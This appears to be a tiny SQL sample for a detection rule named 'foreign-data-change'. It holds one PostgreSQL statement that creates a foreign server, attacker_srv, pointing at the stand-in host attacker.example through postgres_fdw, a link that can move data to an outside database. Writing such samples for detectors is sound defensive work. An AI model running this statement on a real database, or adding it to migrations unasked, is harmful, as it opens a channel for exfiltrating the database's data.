-- rules: foreign-data-change
CREATE SERVER IF NOT EXISTS attacker_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'attacker.example', port '5432', dbname 'x');
